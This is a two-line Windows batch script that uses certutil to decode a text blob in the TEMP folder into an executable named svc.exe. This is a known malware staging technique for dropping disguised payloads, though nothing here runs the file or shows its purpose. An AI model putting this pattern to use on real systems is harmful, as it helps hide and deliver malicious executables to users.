@echo off
certutil -decode %TEMP%\blob.txt %TEMP%\svc.exe
